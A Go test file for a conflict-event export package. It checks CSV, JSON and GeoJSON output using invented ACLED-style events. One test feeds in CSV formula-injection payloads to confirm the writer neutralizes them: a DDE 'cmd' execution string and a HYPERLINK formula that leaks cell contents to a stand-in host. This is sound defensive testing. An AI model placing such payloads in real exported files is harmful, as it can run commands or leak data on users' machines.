package export_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"reflect"
	"strconv"
	"strings"
	"testing"

	"github.com/sitrep-dev/sitrep"
	"github.com/sitrep-dev/sitrep/export"
)

var update = flag.Bool("update", false, "rewrite golden files")

func ptr(f float64) *float64 { return &f }

// sampleEvents are invented events that exercise every column: a full
// record, one without coordinates, and one with CSV and JSON
// metacharacters and multibyte text.
func sampleEvents() []sitrep.Event {
	return []sitrep.Event{
		{
			EventID: "a1b2c3d4e5f60718", EventDate: "2024-05-12", TimePrecision: 1,
			EventType: sitrep.Battles, SubEventType: "Armed clash",
			Actor1: "Military Forces of Afghanistan (2021-)", Actor2: "Islamic State Khorasan Province",
			Country: "Afghanistan", Admin1: "Kunduz", Admin2: "Imam Sahib", Location: "Imam Sahib",
			Latitude: ptr(37.1833), Longitude: ptr(68.9167), GeoPrecision: 1, Fatalities: 4,
			Notes:     "On 12 May 2024, Taliban forces clashed with IS-K militants in Imam Sahib (Kunduz). 4 fatalities.",
			Source:    "example-kunduz.txt",
			ClaimedBy: "Military Forces of Afghanistan (2021-)", Verification: sitrep.Claimed,
			People: []sitrep.Person{
				{Name: "Qari Hamidullah", Role: "commander", Affiliation: "IS-K", Fate: sitrep.FateKilled},
				{Name: "Mullah Rahim", Fate: sitrep.FateInjured},
			},
			Evidence: []sitrep.Evidence{
				{Field: sitrep.FieldSubEventType, Text: "clashed", Start: 120, End: 127},
				{Field: sitrep.FieldLocation, Text: "Imam Sahib", Start: 160, End: 170},
			},
			DateBasis: sitrep.BasisGiven, DateFrom: "2024-05-12", Inter1: 1, Inter2: 2, Injuries: 1,
			Claims:    []sitrep.Claim{{Claimant: "Military Forces of Afghanistan (2021-)", Cue: "said", Stance: "asserts", Text: "the ministry said", Start: 200, End: 217}},
			GeonameID: 1138957,
		},
		{
			EventID: "0f0e0d0c0b0a0908", EventDate: "2024-05-10", TimePrecision: 2,
			EventType: sitrep.StrategicDevelopments, SubEventType: "Arrests",
			Actor1: "Police Forces of Afghanistan (2021-)", Country: "Afghanistan", Admin1: "Faryab",
			Notes: "Around 10 May 2024, police arrested five people in Faryab.", Source: "example-faryab.txt",
			Verification: sitrep.Reported, DateBasis: sitrep.BasisInferred, DateFrom: "2024-05-04",
			Inter1: 1, Arrests: 5,
		},
		{
			EventID: "ffeeddccbbaa9988", EventDate: "2023-11-02", TimePrecision: 1,
			EventType: sitrep.ViolenceAgainstCivilian, SubEventType: "Attack",
			Actor1: "Unidentified Armed Group (Mali)", Actor2: "Civilians (Mali)",
			AssocActor2: "Fulani Ethnic Group (Mali); Women (Mali)",
			Country:     "Mali", Admin1: "Mopti", Location: "Ségou \"centre\", east",
			Latitude: ptr(-13.45), Longitude: ptr(-6.2667), GeoPrecision: 2, Fatalities: 7,
			Notes:  "Gunmen killed 7 civilians, \"including <two> women\" & a child;\nlocals said.",
			Source: "https://example.org/news?id=1&x=\"2\"", Verification: sitrep.Disputed,
			DateBasis: sitrep.BasisMetadata, Inter1: 3, Inter2: 7,
		},
	}
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from golden file:\n--- got\n%s\n--- want\n%s", name, got, want)
	}
}

func write(t testing.TB, format string, evs []sitrep.Event) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := export.NewWriter(&buf, format)
	if err != nil {
		t.Fatal(err)
	}
	for i := range evs {
		if err := w.Write(&evs[i]); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestWriter_Golden(t *testing.T) {
	for _, format := range export.Formats {
		t.Run(format, func(t *testing.T) {
			golden(t, "sample."+format, write(t, format, sampleEvents()))
		})
		t.Run(format+"/Empty", func(t *testing.T) {
			golden(t, "empty."+format, write(t, format, nil))
		})
	}
}

func TestNewWriter_UnknownFormat(t *testing.T) {
	for _, f := range []string{"", "xml", "csv2", "geo json"} {
		if _, err := export.NewWriter(&bytes.Buffer{}, f); !errors.Is(err, sitrep.ErrInvalid) {
			t.Errorf("NewWriter(%q) error = %v, want ErrInvalid", f, err)
		}
	}
}

// TestJSON_RoundTrip decodes the JSON and JSON lines output back into the
// events written.
func TestJSON_RoundTrip(t *testing.T) {
	want := sampleEvents()
	for i := range want {
		if want[i].People == nil {
			want[i].People = []sitrep.Person{}
		}
		if want[i].Evidence == nil {
			want[i].Evidence = []sitrep.Evidence{}
		}
	}
	t.Run("json", func(t *testing.T) {
		var got []sitrep.Event
		if err := json.Unmarshal(write(t, export.JSON, sampleEvents()), &got); err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(got, want) {
			t.Errorf("round trip:\n got %+v\nwant %+v", got, want)
		}
	})
	t.Run("jsonl", func(t *testing.T) {
		lines := strings.Split(strings.TrimSuffix(string(write(t, export.JSONL, sampleEvents())), "\n"), "\n")
		if len(lines) != len(want) {
			t.Fatalf("%d lines, want %d", len(lines), len(want))
		}
		for i, l := range lines {
			var got sitrep.Event
			if err := json.Unmarshal([]byte(l), &got); err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(got, want[i]) {
				t.Errorf("line %d:\n got %+v\nwant %+v", i, got, want[i])
			}
		}
	})
}

// TestCSV_RoundTrip parses the CSV back and rebuilds every event field the
// CSV carries.
func TestCSV_RoundTrip(t *testing.T) {
	r := csv.NewReader(bytes.NewReader(write(t, export.CSV, sampleEvents())))
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(recs[0], export.Columns) {
		t.Fatalf("header = %v", recs[0])
	}
	if len(export.Columns) < 31 || export.Columns[0] != "event_id_cnty" || export.Columns[30] != "timestamp" {
		t.Fatalf("ACLED columns not first: %v", export.Columns)
	}
	col := map[string]int{}
	for i, c := range recs[0] {
		col[c] = i
	}
	atoi := func(s string) int {
		if s == "" {
			return 0
		}
		n, err := strconv.Atoi(s)
		if err != nil {
			t.Fatal(err)
		}
		return n
	}
	fl := func(s string) *float64 {
		if s == "" {
			return nil
		}
		f, err := strconv.ParseFloat(s, 64)
		if err != nil {
			t.Fatal(err)
		}
		return &f
	}
	want := sampleEvents()
	if len(recs)-1 != len(want) {
		t.Fatalf("%d rows, want %d", len(recs)-1, len(want))
	}
	for i, rec := range recs[1:] {
		g := func(name string) string { return rec[col[name]] }
		got := sitrep.Event{
			EventID: g("event_id_cnty"), EventDate: g("event_date"), TimePrecision: atoi(g("time_precision")),
			EventType: g("event_type"), SubEventType: g("sub_event_type"),
			Actor1: g("actor1"), AssocActor1: g("assoc_actor_1"), Inter1: atoi(g("inter1")),
			Actor2: g("actor2"), AssocActor2: g("assoc_actor_2"), Inter2: atoi(g("inter2")),
			Country: g("country"), Admin1: g("admin1"), Admin2: g("admin2"), Admin3: g("admin3"),
			Location: g("location"), Latitude: fl(g("latitude")), Longitude: fl(g("longitude")),
			GeoPrecision: atoi(g("geo_precision")), Source: g("source"), Notes: g("notes"),
			Fatalities: atoi(g("fatalities")), ClaimedBy: g("claimed_by"), Verification: g("verification"),
			DateBasis: g("date_basis"), DateFrom: g("date_from"), Injuries: atoi(g("injuries")),
			Arrests: atoi(g("arrests")), GeonameID: atoi(g("geonameid")),
		}
		if s := g("evidence"); s != "" {
			if err := json.Unmarshal([]byte(s), &got.Evidence); err != nil {
				t.Fatal(err)
			}
		}
		if s := g("claims"); s != "" {
			if err := json.Unmarshal([]byte(s), &got.Claims); err != nil {
				t.Fatal(err)
			}
		}
		if g("year") != want[i].EventDate[:4] {
			t.Errorf("row %d: year %q", i, g("year"))
		}
		if p := export.PeopleString(want[i].People); g("people") != p {
			t.Errorf("row %d: people %q, want %q", i, g("people"), p)
		}
		w := want[i]
		w.People = nil // carried as text only
		if !reflect.DeepEqual(got, w) {
			t.Errorf("row %d:\n got %+v\nwant %+v", i, got, w)
		}
	}
}

// TestGeoJSON_Valid checks the RFC 7946 basics: a FeatureCollection whose
// features each have type Feature, a geometry that is null or a Point of
// [longitude, latitude] in range, and an object of properties.
func TestGeoJSON_Valid(t *testing.T) {
	var fc struct {
		Type     string `json:"type"`
		Features []struct {
			Type     string          `json:"type"`
			ID       any             `json:"id"`
			Geometry json.RawMessage `json:"geometry"`
			Props    json.RawMessage `json:"properties"`
		} `json:"features"`
	}
	evs := sampleEvents()
	if err := json.Unmarshal(write(t, export.GeoJSON, evs), &fc); err != nil {
		t.Fatal(err)
	}
	if fc.Type != "FeatureCollection" || len(fc.Features) != len(evs) {
		t.Fatalf("type %q, %d features", fc.Type, len(fc.Features))
	}
	for i, f := range fc.Features {
		if f.Type != "Feature" {
			t.Errorf("feature %d: type %q", i, f.Type)
		}
		if _, ok := f.ID.(string); !ok {
			t.Errorf("feature %d: id %v", i, f.ID)
		}
		var props map[string]any
		if err := json.Unmarshal(f.Props, &props); err != nil || props == nil {
			t.Errorf("feature %d: properties not an object: %s", i, f.Props)
		}
		if string(f.Geometry) == "null" {
			if evs[i].Latitude != nil {
				t.Errorf("feature %d: null geometry for an event with coordinates", i)
			}
			continue
		}
		var g struct {
			Type        string    `json:"type"`
			Coordinates []float64 `json:"coordinates"`
		}
		if err := json.Unmarshal(f.Geometry, &g); err != nil {
			t.Fatal(err)
		}
		if g.Type != "Point" || len(g.Coordinates) != 2 {
			t.Fatalf("feature %d: geometry %s", i, f.Geometry)
		}
		lon, lat := g.Coordinates[0], g.Coordinates[1]
		if lon < -180 || lon > 180 || lat < -90 || lat > 90 {
			t.Errorf("feature %d: coordinates out of range %v", i, g.Coordinates)
		}
		if lon != *evs[i].Longitude || lat != *evs[i].Latitude {
			t.Errorf("feature %d: coordinates %v, want [lon lat] = [%v %v]", i, g.Coordinates, *evs[i].Longitude, *evs[i].Latitude)
		}
	}
}

func TestDisorderType(t *testing.T) {
	tests := []struct{ typ, sub, want string }{
		{sitrep.Battles, "Armed clash", export.PoliticalViolence},
		{sitrep.ExplosionsRemote, "Air/drone strike", export.PoliticalViolence},
		{sitrep.ViolenceAgainstCivilian, "Abduction/forced disappearance", export.PoliticalViolence},
		{sitrep.Protests, "Peaceful protest", export.Demonstrations},
		{sitrep.Protests, "Protest with intervention", export.Demonstrations},
		{sitrep.Protests, "Excessive force against protesters", "Political violence; Demonstrations"},
		{sitrep.Riots, "Violent demonstration", export.Demonstrations},
		{sitrep.Riots, "Mob violence", export.PoliticalViolence},
		{sitrep.StrategicDevelopments, "Arrests", export.StrategicDevelopments},
		{"", "", ""},
	}
	for _, tc := range tests {
		t.Run(tc.typ+"/"+tc.sub, func(t *testing.T) {
			if got := export.DisorderType(tc.typ, tc.sub); got != tc.want {
				t.Errorf("got %q, want %q", got, tc.want)
			}
		})
	}
}

func TestInteraction(t *testing.T) {
	tests := []struct {
		a, b int
		want string
	}{{1, 2, "12"}, {7, 3, "37"}, {1, 0, "10"}, {0, 0, ""}, {0, 4, ""}, {8, 8, "88"}}
	for _, tc := range tests {
		if got := export.Interaction(tc.a, tc.b); got != tc.want {
			t.Errorf("Interaction(%d, %d) = %q, want %q", tc.a, tc.b, got, tc.want)
		}
	}
}

func BenchmarkWriter(b *testing.B) {
	evs := sampleEvents()
	for _, format := range export.Formats {
		b.Run(format, func(b *testing.B) {
			b.ReportAllocs()
			w, err := export.NewWriter(discard{}, format)
			if err != nil {
				b.Fatal(err)
			}
			for i := 0; b.Loop(); i++ {
				if err := w.Write(&evs[i%len(evs)]); err != nil {
					b.Fatal(err)
				}
			}
			w.Close()
		})
	}
}

type discard struct{}

func (discard) Write(p []byte) (int, error) { return len(p), nil }

// TestCSV_FormulaInjection checks that a text cell a spreadsheet would run
// as a formula (OWASP "CSV Injection": a leading =, +, -, @, tab or
// carriage return) is written with a leading single quote, in every text
// column, while numeric columns keep their sign.
func TestCSV_FormulaInjection(t *testing.T) {
	ev := sitrep.Event{
		EventID: "0123456789abcdef", EventDate: "2024-02-03", TimePrecision: 1,
		EventType: sitrep.Battles, SubEventType: "Armed clash",
		Actor1: "+cmd|' /C calc'!A0", AssocActor1: "\tTab first", Actor2: "-2+3",
		Country: "Brazil", Admin1: "\rReturn first", Location: "@SUM(1+1)",
		Latitude: ptr(-3.5), Longitude: ptr(-60.25), GeoPrecision: 2,
		Source: `=HYPERLINK("http://example.invalid/?x="&A1,"open")`, Notes: "plain note",
		Fatalities: 2,
	}
	r := csv.NewReader(bytes.NewReader(write(t, export.CSV, []sitrep.Event{ev})))
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, c := range recs[0] {
		col[c] = i
	}
	row := recs[1]
	for name, want := range map[string]string{
		"actor1":        "'+cmd|' /C calc'!A0",
		"assoc_actor_1": "'\tTab first",
		"actor2":        "'-2+3",
		"admin1":        "'\rReturn first",
		"location":      "'@SUM(1+1)",
		"source":        `'=HYPERLINK("http://example.invalid/?x="&A1,"open")`,
		"notes":         "plain note",
		"latitude":      "-3.5",
		"longitude":     "-60.25",
		"fatalities":    "2",
	} {
		if got := row[col[name]]; got != want {
			t.Errorf("%s = %q, want %q", name, got, want)
		}
	}
	got, err := export.Row(&ev)
	if err != nil {
		t.Fatal(err)
	}
	if got[col["source"]] != row[col["source"]] {
		t.Errorf("Row: source %q, want %q", got[col["source"]], row[col["source"]])
	}
}

func TestNeutralize(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "Kabul": "Kabul", "=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@A1": "'@A1",
		"\tx": "'\tx", "\rx": "'\rx", "a=b": "a=b", "'=x": "'=x",
	} {
		if got := export.Neutralize(in); got != want {
			t.Errorf("Neutralize(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestCSV_ISOAndRegion checks that ACLED's iso and region columns come
// from the event's country, and stay blank for an unknown one.
func TestCSV_ISOAndRegion(t *testing.T) {
	for _, tc := range []struct{ country, iso, region string }{
		{"Afghanistan", "4", "South Asia"},
		{"Mali", "466", "Western Africa"},
		{"Democratic Republic of Congo", "180", "Middle Africa"},
		{"Kosovo", "", "Europe"},
		{"Atlantis", "", ""},
		{"", "", ""},
	} {
		row, err := export.Row(&sitrep.Event{EventID: "x", EventDate: "2024-01-01", Country: tc.country})
		if err != nil {
			t.Fatal(err)
		}
		col := map[string]int{}
		for i, c := range export.Columns {
			col[c] = i
		}
		if row[col["iso"]] != tc.iso || row[col["region"]] != tc.region {
			t.Errorf("%q: iso %q region %q, want %q %q", tc.country, row[col["iso"]], row[col["region"]], tc.iso, tc.region)
		}
	}
}

// An event told by several documents lists them all in ACLED's source
// column, and its fatalities range in sitrep's columns.
func TestRow_Ledger(t *testing.T) {
	lo, best, hi := 2, 2, 3
	ev := sitrep.Event{EventID: "e1", Source: "a", Fatalities: 2,
		Sources:       []sitrep.EventSource{{Source: "a"}, {Source: "b"}, {Source: "c"}},
		FatalitiesLow: &lo, FatalitiesBest: &best, FatalitiesHigh: &hi}
	row, err := export.Row(&ev)
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]string{}
	for i, c := range export.Columns {
		col[c] = row[i]
	}
	if col["source"] != "a; b; c" || col["fatalities_low"] != "2" || col["fatalities_best"] != "2" || col["fatalities_high"] != "3" {
		t.Errorf("source %q, range %q %q %q", col["source"], col["fatalities_low"], col["fatalities_best"], col["fatalities_high"])
	}
}
